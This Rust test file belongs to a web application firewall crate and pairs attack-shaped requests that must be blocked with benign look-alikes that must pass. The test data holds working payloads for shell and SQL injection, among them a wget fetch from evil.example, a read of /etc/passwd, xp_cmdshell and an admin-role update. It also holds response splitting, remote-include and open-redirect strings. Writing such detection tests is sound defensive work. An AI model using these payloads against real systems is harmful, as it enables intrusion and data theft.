#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Attack classes the built-in rules must block, each next to the look-alike
//! real traffic they must let through (the reason a rule has its shape).

mod common;

use common::{
    assert_queries, blocked, form_blocked, header_blocked, multipart_blocked, query_blocked,
};
use rampart_waf::{Policy, Request};

/// The Content-Type detector is wired to the request header (its cases are
/// its unit tests in `detect/protocol.rs`).
#[test]
fn content_type_policy() {
    assert!(header_blocked(
        "Content-Type",
        b"multipart/foo; boundary=0000"
    ));
    assert!(!header_blocked("Content-Type", b"application/csp-report"));
}

#[test]
fn response_splitting_needs_a_header_of_its_own_shape() {
    assert!(form_blocked("var=%0d%0aContent-Length:%200"));
    assert!(form_blocked("to=%0d%0aLocation:%20https://evil.example/"));
    // A contact form's address block.
    assert!(!form_blocked(
        "msg=Hello%0d%0aLocation:%20Berlin%0d%0aPhone:%20123"
    ));
}

#[test]
fn multipart_names_may_hold_entities_but_not_bare_separators() {
    let part = |name: &str| {
        format!("--XyZ\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\nv\r\n--XyZ--\r\n")
    };
    let h: [(&str, &[u8]); 2] = [
        ("Host", b"x"),
        ("Content-Type", b"multipart/form-data; boundary=XyZ"),
    ];
    assert!(!blocked(
        "POST",
        "/",
        "",
        &h,
        part("caf&eacute;").as_bytes()
    ));
    assert!(blocked("POST", "/", "", &h, part("a;b").as_bytes()));
}

#[test]
fn shell_syntax_and_its_look_alikes() {
    assert_queries(
        true,
        &[
            "p=%2Fetc%2F%5Bp%5Dasswd",
            "p=%3C%28cat%20file%29",
            "p=cd%20%2F%3Bcd%20etc%3Bcolumn%20passwd",
            "p=%27wh%27oami",
            "p=ksh%20-c%20%22curl%20x%22",
        ],
    );
    // Quantcast's `$qc=..;$ql=..` beacon and a base64 value ending `/onXYZ=`.
    assert_queries(
        false,
        &[
            "systgt=%24qc%3D1500029197%3B%24ql%3DHigh%3B%24qpc%3Dec1m",
            "sign=VGhhbmtz%2Fonafe%3D",
        ],
    );
}

#[test]
fn restricted_files_in_the_path() {
    let path_blocked = |p: &str| blocked("GET", p, "", &[("Host", b"x")], b"");
    assert!(path_blocked("/.cline/rules.md"));
    assert!(path_blocked("/backup/privkey.pem"));
    assert!(path_blocked("/index.php~"));
    assert!(!path_blocked("/.well-known/openid-configuration"));
    assert!(!path_blocked("/downloads/rds-combined-ca-bundle.pem"));
}

#[test]
fn request_framing_facts() {
    let verdict = |method: &str, version: &str, body: &[u8]| {
        let h: [(&str, &[u8]); 2] = [("Host", b"x"), ("Content-Type", b"text/plain")];
        let req = Request {
            method,
            path: "/",
            query: "",
            headers: &h,
            body,
            body_truncated: false,
            version,
        };
        common::rules().inspect(&req, &Policy::default()).block
    };
    // A body on a GET or HEAD: servers disagree on reading it.
    assert!(verdict("GET", "HTTP/1.1", b"abc"));
    assert!(verdict("HEAD", "HTTP/1.1", b"abc"));
    assert!(!verdict("POST", "HTTP/1.1", b"abc"));
    assert!(!verdict("GET", "HTTP/1.1", b""));
    // Versions clients speak pass; HTTP/0.9 and made-up numbers do not;
    // an unknown version (the caller did not say) is not inspected.
    for good in ["HTTP/1.0", "HTTP/1.1", "HTTP/2", "HTTP/2.0", "HTTP/3", ""] {
        assert!(!verdict("GET", good, b""), "{good}");
    }
    for bad in ["HTTP/0.9", "HTTP/4.0", "HTTP/1.2", "FOO"] {
        assert!(verdict("GET", bad, b""), "{bad}");
    }
}

#[test]
fn windows_ampersand_command_and_its_look_alikes() {
    assert!(query_blocked("x=a.jpg%26bcdboot%20/r%20f.txt"));
    assert!(query_blocked("view%3Da.jpg%26dir%20%3C%20list.txt"));
    assert!(query_blocked("x=time%20ifconfig"));
    assert!(!query_blocked("q=R%26D%20department"));
    assert!(!query_blocked("q=Tom%26Jerry/season"));
    assert!(!query_blocked("q=time%20zone%20settings"));
}

#[test]
fn remote_url_in_an_include_variable_and_its_look_alikes() {
    assert!(query_blocked("_CONF[path]=https://foo.example/"));
    assert!(query_blocked("mosConfig_absolute_path=http://foo.example"));
    assert!(query_blocked("phpbb_root_path=ftp://foo.example/x"));
    assert!(query_blocked(
        "GLOBALS%5Binclude_dir%5D=http://foo.example/"
    ));
    assert!(form_blocked("a=1&base_dir=https://foo.example/lib/"));
    // Page, return and referrer URLs are what real traffic carries.
    assert_queries(
        false,
        &[
            "page_url=https://shop.example/a",
            "retpath=https://shop.example/",
            "return_path=https://shop.example/",
            "root_referer=https://www.example/",
            "path=https://cdn.example/x.js",
            // Words that merely start with "conf" are not config variables.
            "confirm_url=https://shop.example/done",
            "conference=https://meet.example/r/1",
            // A config variable holding a local value is not a remote include.
            "config=dark-mode",
        ],
    );
}

#[test]
fn open_redirect_tricks_block_and_plain_redirect_targets_pass() {
    assert_queries(
        true,
        &[
            "next=%2F%5Cevil.example",                        // /\evil.example
            "next=%5C%2F%5C%2Fevil.example%2F",               // \/\/evil.example/
            "next=%2F%09%2Fevil.example",                     // /<tab>/evil.example
            "next=%2F%2F%2Fevil.example%2Fhome",              // ///evil.example/home
            "next=https%3A%2F%2F%2Fevil.example",             // https:///evil.example
            "next=%2Fhttps%3A%2F%2Fevil.example",             // /https://evil.example
            "next=https%3Aevil.example",                      // https:evil.example
            "next=https%3A%2F%2Fbank.example%40evil.example", // https://bank.example@evil.example
            "next=https%3A%2F%2Fevil.example%5Cbank.example", // https://evil.example\bank.example
            "next=%2F%2Fevil%E3%80%82example", // //evil<ideographic full stop>example
            "next=%2F%2Fevil.example%2F%252e%252e", // //evil.example/..
            "next=%E3%83%BCevil.example",      // <prolonged sound mark>evil.example
            "u=%2F%3Fnext%3D%2F%5Cevil.example", // /?next=/\evil.example
        ],
    );
    assert_queries(
        false,
        &[
            "next=https%3A%2F%2Fshop.example%2Fcart",
            "next=%2F%2Fcdn.example%2Fa.js",
            "continue=https%3A%2F%2Fhome.example%3F",
            "return=%2Faccount%2Forders%3Ftab%3D2",
            "u=ftp%3A%2F%2Fuser%3Apass%40ftp.example%2Fpub%2F",
            "redirectTo=https%3A%2F%2Fid.example%2Flogin%3Fcontinue%3Dhttps%253A%252F%252Fstart.example%26token%3Dabc",
            "file=C%3A%5Cfakepath%5Cphoto.jpg",
            "share=%5C%5Cfileserver%5Cteam",
            "q=%62%61%72%63%65%6C%6F%6E%61", // a site that percent-encodes every letter of a word
        ],
    );
}

#[test]
fn php_calls_hidden_by_comments_or_concatenated_names_and_chained_recon_commands() {
    assert_queries(
        true,
        &[
            "x=%24f%20%23c%0A%5B0%5D%20%2F%2Fd%0A(1)", // $f #c\n[0] //d\n(1)
            "x=%24f%20%2F*c*%2F%20(1)",                // $f /*c*/ (1)
            "x=%24%7B'sys'.'tem'%7D",                  // ${'sys'.'tem'}
            "q=whoami%3Bcat%20x",                      // whoami;cat x
            "q=uname%7Csh",                            // uname|sh
            "q=id%26%26ls",                            // id&&ls
        ],
    );
    assert_queries(
        false,
        &[
            "q=id%20card",
            "q=hostname",
            "q=my%20id%3B%20your%20id",
            "price=%245%20(approx)",
            "tpl=Hello%20%24%7Bname%7D",
        ],
    );
}

#[test]
fn prose_names_and_regexes_pass_where_the_attack_shapes_block() {
    let json = |body: &str| {
        let h: [(&str, &[u8]); 2] = [("Host", b"x"), ("Content-Type", b"application/json")];
        blocked("POST", "/api", "", &h, body.as_bytes())
    };
    // Names with an apostrophe inside a double-quoted string, regex quantifiers, and English
    // that happens to follow a semicolon with an SQL verb.
    for good in [
        r#"{"query":"mutation { updateUser(id: 1, input: {name: \"O'Brien\"}) { id } }"}"#,
        r#"{"regex":"^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$","other":"\\d{,5}"}"#,
        r#"{"text":"TODO: drop table of contents from the README; update the union members list; delete old notes"}"#,
    ] {
        assert!(!json(good), "{good}");
    }
    for bad in [
        r#"{"cmd":"x; 'wh'oami"}"#,
        r#"{"cmd":"a && \"w\"get http://evil.example/x"}"#,
        r#"{"cmd":"{cat,/etc/passwd}"}"#,
        r#"{"id":"1; drop table users--"}"#,
        r#"{"id":"1'; update users set role='admin' where name='bob'--"}"#,
        r#"{"id":"1; exec master..xp_cmdshell 'dir'"}"#,
        r#"{"id":"1;shutdown--"}"#,
    ] {
        assert!(json(bad), "{bad}");
    }
}

#[test]
fn markup_colors_and_arrows_pass_where_sql_comments_and_here_strings_block() {
    assert_queries(
        false,
        &[
            "q=%3Cfont%20color%3D%22%23ff0000%22%20face%3D%22Arial%22%3Eold%3C%2Ffont%3E", // <font color="#ff0000" ...>
            "q=%3C%3C%3C%3C%20look%20here%20%3E%3E%3E%3E", // <<<< look here >>>>
        ],
    );
    assert_queries(
        true,
        &[
            "user=admin%22%23",               // admin"#
            "q=x%3B%20bash%20%3C%3C%3C%20id", // x; bash <<< id
        ],
    );
}

#[test]
fn line_break_in_a_part_without_a_name_blocks_textareas_and_flags_pass() {
    assert_queries(
        true,
        &[
            "variableX=bar&variable2=Y&%0d%0restofdata",
            "%0d%0aX-Injected:1",
            "a=1&%0a",
            "%250d%250aSet-Cookie",
            "x&foo%0Dbar",
        ],
    );
    assert!(form_blocked("a=1&%0d%0aLocation"));
    // `?flag` parts, and line breaks in named fields (a textarea).
    assert_queries(
        false,
        &[
            "flag",
            "a=1&debug&b=2",
            "amp&utm_source=x",
            "q=a%0d%0ab",
            "q=%0a",
        ],
    );
    for good in [
        "comment=first+line%0d%0asecond+line%0d%0a%0d%0athird&send",
        "a=1&b=2\n",
        "a=1&remember\r\n",
    ] {
        assert!(!form_blocked(good), "{good}");
    }
    assert!(!multipart_blocked(&[(
        "message",
        "line one\r\nline two\nthree"
    )]));
}

#[test]
fn form_charset_field_naming_a_re_decoding_charset_blocks() {
    for bad in [
        "utf-7",
        "UTF-7",
        "utf-",
        "utf-16",
        "UTF-16LE",
        "utf-32be",
        "ibm037",
        "IBM1047",
        "cp037",
        "cp1026",
        "ebcdic-cp-us",
        "ucs-2",
        "x-utf7",
    ] {
        assert!(
            multipart_blocked(&[("_charset_", bad), ("q", "hello")]),
            "{bad}"
        );
        assert!(form_blocked(&format!("_charset_={bad}&q=hello")), "{bad}");
        assert!(query_blocked(&format!("_charset_={bad}")), "{bad}");
    }
    for good in [
        "utf-8",
        "UTF-8",
        "windows-1252",
        "ISO-8859-1",
        "Shift_JIS",
        "EUC-KR",
    ] {
        assert!(
            !multipart_blocked(&[("_charset_", good), ("q", "hello")]),
            "{good}"
        );
        assert!(
            !form_blocked(&format!("_charset_={good}&q=hello")),
            "{good}"
        );
    }
    // The same words in fields of other names are data (a converter's form).
    assert!(!form_blocked("charset=utf-16&to=utf-8"));
    assert!(!multipart_blocked(&[("encoding", "utf-7")]));
}
